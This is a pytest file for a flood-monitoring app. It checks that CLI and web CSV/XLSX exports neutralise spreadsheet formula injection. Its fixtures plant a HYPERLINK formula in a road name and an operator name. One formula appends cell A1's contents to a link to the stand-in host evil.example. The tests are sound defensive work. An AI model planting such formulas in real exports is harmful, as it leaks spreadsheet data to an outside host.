"""Spreadsheet formula injection (issue 11): a road named "=HYPERLINK(…)" and an operator
whose display name starts with "=" acknowledge their way into every CSV and XLSX export
(CLI, web log, planners' downloads) as plain text, never as a live formula.

The replayed spring tide of tests/test_web.py, on a copy of the test roads with one road
renamed; exports read back with the csv module and openpyxl.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient

import tests.conftest
from floodwatch.cli.main import main
from floodwatch.web.app import create_app
from floodwatch.web.auth import add_user
from tests import test_web
from tests.test_web import csrf_of

ROAD = '=HYPERLINK("http://evil.example/?d="&A1,"Đường thử triều thấp")'
NAME = '=HYPERLINK("http://evil.example","Nguyễn Văn Độc")'
PASSWORD = "một-mật-khẩu-dài"
fw_app = test_web.fw_app


@pytest.fixture(autouse=True)
def hostile_roads(tmp_path, monkeypatch):
    """The test roads with tide-low renamed to a formula (fw_app reads TEST_ROADS)."""
    roads = json.loads(tests.conftest.TEST_ROADS.read_text(encoding="utf-8"))
    for feature in roads["features"]:
        if feature["properties"].get("id", feature.get("id")) == "tide-low":
            feature["properties"]["name"] = ROAD
    path = tmp_path / "hostile-segments.geojson"
    path.write_text(json.dumps(roads, ensure_ascii=False), encoding="utf-8")
    monkeypatch.setattr(tests.conftest, "TEST_ROADS", path)


@pytest.fixture
def acknowledged(fw_app):
    """The app with tide-low's flooded event acknowledged on the web by `NAME`."""
    add_user(fw_app.store, "doc", PASSWORD, NAME)
    client = TestClient(create_app(fw_app, secret_key="k"))
    token = csrf_of(client.get("/login").text)
    client.post("/login", data={"username": "doc", "password": PASSWORD, "csrf": token})
    [event] = [e for e in fw_app.store.events.listing()
               if e.segment_id == "tide-low" and e.status == "flooded"]  # fmt: skip
    assert event.segment_name == ROAD
    token = csrf_of(client.get(f"/events/{event.id}").text)
    response = client.post(f"/events/{event.id}/ack", data={"csrf": token},
                           follow_redirects=False)  # fmt: skip
    assert response.status_code == 303
    return fw_app, client


def assert_no_formula(raw: bytes, *expected: str) -> None:
    """The workbook has no formula cell, and the expected texts are there as text cells."""
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(raw))
    texts = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                    texts.add(cell.value)
    assert set(expected) <= texts


def assert_quoted(text: str, *expected: str) -> None:
    """Every CSV cell starting like a formula is neutralised; the expected ones are there."""
    cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for value in expected:
        assert "'" + value in cells, value


def test_cli_exports_hold_no_formula(acknowledged, tmp_path):
    app, _client = acknowledged
    config = str(app.settings.config_path)

    def export(*args: str) -> bytes:
        out = tmp_path / "out"
        result = CliRunner().invoke(main, ["--config", config, "export", *args, "-o", str(out)])
        assert result.exit_code == 0, result.output
        return out.read_bytes()

    period = ("--from", "2024-12-01", "--to", "2024-12-31")
    assert_no_formula(export("events", *period, "--format", "xlsx"), ROAD, NAME)
    assert_quoted(export("events", *period, "--format", "csv").decode("utf-8-sig"), ROAD, NAME)
    assert_no_formula(export("maintenance", *period, "--format", "xlsx"), ROAD)
    assert_quoted(export("maintenance", *period, "--format", "csv").decode("utf-8-sig"), ROAD)
    listing = CliRunner().invoke(main, ["--config", config, "events", "--format", "csv"])
    assert listing.exit_code == 0
    assert_quoted(listing.output)


def test_web_downloads_hold_no_formula(acknowledged):
    _app, client = acknowledged
    assert_quoted(client.get("/log.csv").content.decode("utf-8-sig"), ROAD, NAME)
    query = {"from": "2024-12-01", "to": "2024-12-31"}
    assert_no_formula(client.get("/maintenance.xlsx", params=query).content, ROAD)
    assert_quoted(client.get("/maintenance.csv", params=query).content.decode("utf-8-sig"), ROAD)


def test_numbers_stay_numbers_and_only_formula_starts_are_quoted():
    from floodwatch.exports.tables import csv_cell, neutralised

    assert neutralised(-0.25) == -0.25 and neutralised(3) == 3 and neutralised(None) is None
    for text in ("=1+1", "+84 90", "-5", "@SUM(A1)", "\tx", "\rx"):
        assert neutralised(text) == "'" + text
    assert neutralised("Đường Phan Ngọc Hiển") == "Đường Phan Ngọc Hiển"
    assert csv_cell("") == "" and csv_cell(None) == "" and csv_cell(1.5) == 1.5
